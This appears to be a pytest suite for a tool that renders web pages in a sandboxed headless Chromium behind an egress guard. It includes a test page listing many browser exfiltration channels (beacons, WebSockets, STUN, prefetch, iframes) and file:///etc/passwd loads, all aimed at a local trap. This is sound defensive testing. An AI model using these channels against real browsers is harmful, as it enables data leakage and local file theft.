"""A picture of a page is made by a real browser that reaches nothing but through our own door."""

import io
import json
import socket
import struct
import threading
from collections.abc import Callable, Iterator
from contextlib import suppress
from dataclasses import dataclass, field, replace
from functools import partial
from pathlib import Path

import httpx
import pytest
from playwright.sync_api import Request, Route

from tests.sources.files import read
from tests.sources.loopback import AGENT, NOW, Runner, Site, planned
from tests.sources.pictures import STYLE, failures, hit, hit_on, made, records
from vetting.errors import ExitCode, VettingError
from vetting.sources import rendering, web_archive
from vetting.sources.conduct import conduct
from vetting.sources.egress import GuardedTransport, PublicOnly
from vetting.sources.forum import build
from vetting.sources.internet import Internet
from vetting.sources.rendering import find_chromium, render_pages
from vetting.sources.warc_reader import read_warc


@dataclass(frozen=True, slots=True)
class Trap:
    """A server that nobody may reach, and how often somebody did."""

    port: int
    reached: list[bytes] = field(default_factory=list)


@pytest.fixture
def trap() -> Iterator[Trap]:
    with socket.create_server(("127.0.0.1", 0)) as server:
        caught = Trap(server.getsockname()[1])

        def wait() -> None:
            with suppress(OSError):
                while True:
                    caller, _ = server.accept()
                    caught.reached.append(b"somebody")
                    threading.Thread(target=listen, args=(caller,), daemon=True).start()

        def listen(caller: socket.socket) -> None:
            with caller, suppress(OSError):
                caller.settimeout(2)
                caught.reached.append(caller.recv(500))

        thread = threading.Thread(target=wait, daemon=True)
        thread.start()
        yield caught
        server.shutdown(socket.SHUT_RDWR)
        thread.join()


def test_a_page_gives_its_whole_picture_and_a_snapshot_that_can_be_imported(
    site: Site, internet: Internet, chromium: str, tmp_path: Path
) -> None:
    site.answer("/page", "<title>T</title><link rel=stylesheet href=style.css><p>Some words of a page.</p>")
    site.answer("/style.css", STYLE, kind="text/css")
    render_pages(chromium, [hit(internet, "http://site.example/page")], internet, 10)
    (picture,), (snapshot,) = made(internet, "image/png"), made(internet, "multipart/related")
    assert picture.url == "urn:view:http://site.example/page"
    assert picture.block.startswith(b"\x89PNG")
    assert struct.unpack(">II", picture.block[16:24]) == (1280, 3000)
    notes = [r.block.decode() for r in records(internet) if b"browser: " in r.block and r.kind == "metadata"]
    assert len(notes) == 2
    assert all("browser: Chromium/" in note and "scripts: off" in note and "given: 2" in note for note in notes)
    _, reading = read(tmp_path, snapshot.block)
    assert [one.text.reveal() for one in reading.hits] == ["Some words of a page."]
    assert site.paths() == ["/robots.txt", "/page", "/style.css"]


def test_the_same_page_gives_the_same_picture(
    site: Site, make_internet: Callable[..., Internet], chromium: str
) -> None:
    site.answer("/page", f"<style>{STYLE}</style><p>Some words of a page.</p>")
    pictures = []
    for _ in range(2):
        internet = make_internet()
        render_pages(chromium, [hit(internet, "http://site.example/page")], internet, 10)
        pictures += [made(internet, "image/png")[0].block]
    assert pictures[0] == pictures[1]


def attacks(at: str) -> str:
    """A page that tries every way out it knows; `at` is host and port of the trap."""
    return f"""<!doctype html><title>T</title>
    <link rel=dns-prefetch href="//{at}"><link rel=preconnect href="http://{at}">
    <link rel=prefetch href="http://{at}/prefetch"><link rel=preload as=image href="http://{at}/preload">
    <link rel=prerender href="http://{at}/prerender"><link rel=icon href="http://{at}/icon">
    <link rel=manifest href="http://{at}/manifest"><link rel=stylesheet href="http://{at}/style">
    <link rel=modulepreload href="http://{at}/module"><style>@import "http://{at}/import"; p {{
    background: url(http://{at}/background) }} @font-face {{ font-family: x; src: url(http://{at}/font) }}
    p {{ font-family: x }}</style>
    <script type=speculationrules>{{"prefetch": [{{"urls": ["http://{at}/speculation"]}}]}}</script>
    <script src="http://{at}/script"></script><script>
      fetch("http://{at}/fetch"); navigator.sendBeacon("http://{at}/beacon");
      new WebSocket("ws://{at}/socket"); new EventSource("http://{at}/events");
      new Image().src = "http://{at}/image"; new Worker("http://{at}/worker");
      navigator.serviceWorker && navigator.serviceWorker.register("/sw.js");
      new RTCPeerConnection({{iceServers: [{{urls: "stun:{at}"}}]}}).createDataChannel("x");
      fetch("http://{at}/post", {{method: "POST", mode: "no-cors", body: "x"}});
      setTimeout(() => location = "http://{at}/away", 0); window.open("http://{at}/window");
      document.write('<img src="http://{at}/written">');
    </script>
    <p>Some words.</p><img src="http://{at}/img"><img srcset="http://{at}/set 2x"><iframe src="http://{at}/frame">
    </iframe><iframe srcdoc='<img src="http://{at}/inner">'></iframe><object data="http://{at}/object"></object>
    <embed src="http://{at}/embed"><video src="http://{at}/video" poster="http://{at}/poster" autoplay></video>
    <audio src="http://{at}/audio" autoplay></audio><a href="http://{at}/a" ping="http://{at}/ping">a</a>
    <img src="file:///etc/passwd"><iframe src="file:///etc/passwd"></iframe><iframe src="chrome://version"></iframe>
    <meta http-equiv=refresh content="0; url=http://{at}/refresh">"""


@pytest.mark.parametrize("scripts", [False, True])
@pytest.mark.parametrize("proxy", ["closed", "open"])
def test_no_page_reaches_anything_but_through_the_guard(
    site: Site,
    trap: Trap,
    make_internet: Callable[..., Internet],
    chromium: str,
    monkeypatch: pytest.MonkeyPatch,
    scripts: bool,
    proxy: str,
) -> None:
    """Even with scripts, which are off, and even where somebody listens at the port that is taken for closed."""
    monkeypatch.setattr(rendering, "_SCRIPTS", scripts)
    if proxy == "open":
        monkeypatch.setattr(rendering, "_CLOSED", f"http://127.0.0.1:{trap.port}")
    internet = make_internet(GuardedTransport(PublicOnly(exceptions=[("127.0.0.1", site.port)])))
    page = f"http://127.0.0.1:{site.port}/page"
    site.answer(
        "/page",
        attacks(f"127.0.0.1:{trap.port}"),
        headers={"Link": f"<http://127.0.0.1:{trap.port}/l>; rel=preload; as=image"},
    )
    render_pages(chromium, [hit(internet, page)], internet, 10)
    assert trap.reached == []
    assert failures(internet) == []
    assert len(made(internet, "image/png")) == 1
    refused = {r.url.rpartition("/")[2] for r in records(internet) if b"error: address_refused" in r.block}
    assert refused == {"robots.txt"}  # which is asked for first, once for all that the page wants from there
    assert max(int(r.block.decode().split("refused: ")[1]) for r in records(internet) if b"refused: " in r.block) > 5
    assert b"root:" not in b"".join(r.block for r in records(internet))
    assert set(site.paths()) == {"/robots.txt", "/page"}


def test_without_our_door_the_same_page_would_reach_out(
    site: Site, trap: Trap, internet: Internet, chromium: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The test above can fail: the trap catches what the browser sends by itself."""
    monkeypatch.setattr(rendering, "_CLOSED", f"http://127.0.0.1:{trap.port}")
    monkeypatch.setattr(rendering, "_ARGUMENTS", ())

    def let_go(door: rendering._Door, route: Route, request: Request) -> None:
        own = request.url == door.page.url
        route.fulfill(body=door.page.response.body, content_type="text/html") if own else route.continue_()

    monkeypatch.setattr(rendering._Door, "answer", let_go)
    site.answer("/page", "<p>words</p><img src=http://other.example/img>")
    render_pages(chromium, [hit(internet, "http://site.example/page")], internet, 10)
    assert any(b"other.example/img" in line for line in trap.reached)


def test_no_cookie_is_kept_or_sent(site: Site, internet: Internet, chromium: str) -> None:
    site.answer("/page", "<p>words</p><img src=/one.png>", headers={"Set-Cookie": "a=b"})
    render_pages(
        chromium, [hit(internet, "http://site.example/page"), hit(internet, "http://site.example/page?2")], internet, 10
    )
    assert not any("cookie" in headers for _, headers in site.asked)
    assert {headers["user-agent"] for _, headers in site.asked} == {"vetting-test (records@riverton.example)"}


@pytest.mark.parametrize(
    ("page", "kind", "status"),
    [
        ("<title>Log in</title><p>Please log in to see it.</p><input type=password>", "text/html", 200),
        ("<title>Just a moment...</title>", "text/html", 200),
        ("<p>no</p>", "text/html", 403),
        ("<meta name=robots content=noindex><p>words</p>", "text/html", 200),
        ("<p>gone</p>", "text/html", 404),
        ("%PDF-1.7", "application/pdf", 200),
        ('{"posts": ["words"]}', "application/json", 200),
    ],
)
def test_what_is_no_page_leaves_a_code_and_no_picture(
    site: Site, internet: Internet, chromium: str, page: str, kind: str, status: int
) -> None:
    site.answer("/page", page, kind=kind, status=status)
    render_pages(chromium, [hit(internet, "http://site.example/page")], internet, 10)
    assert failures(internet) == ["not_a_page"]
    assert made(internet, "image/png") == []


def test_a_piece_that_robots_txt_forbids_is_not_asked_for(site: Site, internet: Internet, chromium: str) -> None:
    site.answer("/robots.txt", "User-agent: *\nDisallow: /private/", kind="text/plain")
    site.answer("/page", "<p>words</p><img src=/private/one.png><img src=/two.png>")
    render_pages(chromium, [hit(internet, "http://site.example/page")], internet, 10)
    assert site.paths() == ["/robots.txt", "/page", "/two.png"]


def test_a_long_page_is_cut_and_a_hungry_one_gets_no_more(site: Site, internet: Internet, chromium: str) -> None:
    images = "".join(f"<img src=/{n}.png>" for n in range(100))
    site.answer("/page", f"<p style='height: 5000000px'>words</p>{images}")
    site.answer("", b"GIF89a", kind="image/gif")
    site.answer("/robots.txt", "", kind="text/plain")
    render_pages(chromium, [hit(internet, "http://site.example/page")], internet, 10)
    (picture,) = made(internet, "image/png")
    assert struct.unpack(">II", picture.block[16:24]) == (1280, rendering.MAX_HEIGHT)
    assert len(site.asked) == 2 + rendering.MAX_REQUESTS


def test_the_first_pages_are_rendered_and_each_once(site: Site, internet: Internet, chromium: str) -> None:
    site.answer("", "<p>words</p>")
    hits = [hit(internet, f"http://site.example/{n}") for n in range(5)]
    render_pages(chromium, [*hits, *hits, hit_on("C-unknown", "x")], internet, 3)
    pictures = made(internet, "image/png")
    assert [one.url for one in pictures] == [f"urn:view:http://site.example/{n}" for n in range(3)]
    assert site.paths() == ["/robots.txt", *(f"/{n}" for n in range(5))], (
        "what was captured is shown, and not asked for again"
    )


def test_a_browser_that_fails_leaves_a_code_for_every_page(site: Site, internet: Internet) -> None:
    site.answer("", "<p>words</p>")
    render_pages(
        "/bin/false", [hit(internet, "http://site.example/1"), hit(internet, "http://site.example/2")], internet, 10
    )
    assert failures(internet) == ["browser_failed", "browser_failed"]


def test_no_hit_starts_no_browser(internet: Internet) -> None:
    render_pages("/nonexistent", [], internet, 10)
    assert internet.captures() == ()


def test_a_machine_without_the_browser_is_refused_before_any_search() -> None:
    with pytest.raises(VettingError) as caught:
        find_chromium("/nonexistent/chromium")
    assert (caught.value.code, caught.value.exit_code) == ("chromium_missing", ExitCode.NOT_READY)


@pytest.mark.parametrize("browser", ["", "/bin/false"])
def test_pictures_are_kept_with_their_search_and_never_change_what_came_of_it(
    site: Site, run: Runner, chromium: str, transport: httpx.BaseTransport, browser: str
) -> None:
    site.answer("/members/jroe", "<html><p>I race motorcycles at night.</p></html>")
    forum = build(AGENT, {"profile": "http://site.example/members/{account}"})
    asked = planned("jroe")
    asked = replace(asked, step=replace(asked.step, render=True))
    plain = run.on(transport, forum, planned("jroe"))
    render = partial(render_pages, browser or chromium)
    done = conduct(forum, asked, transport, clock=lambda: NOW, new_id=run.new_id, render=render)
    kinds = [r.content_type for c in done.captures for r in read_warc(io.BytesIO(c.warc), compressed=False)]
    assert ("image/png" in kinds) is (browser == "")
    assert (done.result.outcome, done.result.reason, len(done.hits)) == (plain.result.outcome, "found", 1)
    assert done.result.captures == len(done.captures) > plain.result.captures
    assert len(run.recording_of(done)) == 2  # the page and its robots.txt: pictures answer nothing


ARCHIVE = "http://archive.example/web/20210708091011id_/"
KEPT = {"Memento-Datetime": "Thu, 08 Jul 2021 09:10:11 GMT"}


def test_a_picture_of_an_archived_page_is_made_of_what_the_archive_kept_and_never_of_the_live_site(
    site: Site, run: Runner, chromium: str
) -> None:
    """`other.example` is the live site here: it answers, and must not be asked."""
    table = {"cdx": "http://archive.example/web/cdx", "memento": "http://archive.example/web/{timestamp}id_/{url}"}
    own = "http://other.example/home"
    row = {"url": own, "timestamp": "20210708091011", "status": "200", "mime": "text/html", "digest": "d"}
    site.answer("/web/cdx", json.dumps(row), kind="text/x-ndjson")
    page = (
        "<title>T</title><link rel=stylesheet href=style.css><link rel=stylesheet href=http://other.example/far.css>"
        "<p>Words of old.</p><img src=/root.png><img src=http://other.example/moved.png>"
        "<img src=http://other.example/lost.png>"
    )
    kept = ARCHIVE.removeprefix("http://archive.example")
    site.answer(f"{kept}{own}", page, headers=KEPT)
    site.answer(f"{kept}http://other.example/style.css", STYLE, kind="text/css", headers=KEPT)
    site.answer(f"{kept}http://other.example/far.css", "p { color: red }", kind="text/css", headers=KEPT)
    site.answer(f"{kept}http://other.example/moved.png", status=302, headers={"Location": "http://other.example/live"})
    site.answer(f"{kept}http://other.example/lost.png", "<p>The archive's own page</p>")
    site.answer("/home", "<p>What stands there today.</p>")
    asked = planned("other.example")
    asked = replace(asked, step=replace(asked.step, render=True))
    render = partial(render_pages, chromium)
    source = web_archive.build(AGENT, table)
    done = conduct(source, asked, run.transport, clock=lambda: NOW, new_id=run.new_id, render=render)
    kinds = [r for c in done.captures for r in read_warc(io.BytesIO(c.warc), compressed=False)]
    (picture,) = [r for r in kinds if r.content_type == "image/png"]
    (snapshot,) = [r for r in kinds if r.content_type == "multipart/related"]
    assert picture.url == f"urn:view:{ARCHIVE}{own}"
    assert struct.unpack(">II", picture.block[16:24])[1] >= 3000, "drawn with its own style sheet"
    assert b"Words of old." in snapshot.block.replace(b"=\r\n", b"")
    notes = [r.block.decode() for r in kinds if b"scripts: off" in r.block]
    assert all("given: 3" in note and f"page: {done.hits[0].capture_id}" in note for note in notes)
    hosts = {headers["host"] for _, headers in site.asked}
    assert hosts == {"archive.example"}
    assert "/root.png" not in site.paths()
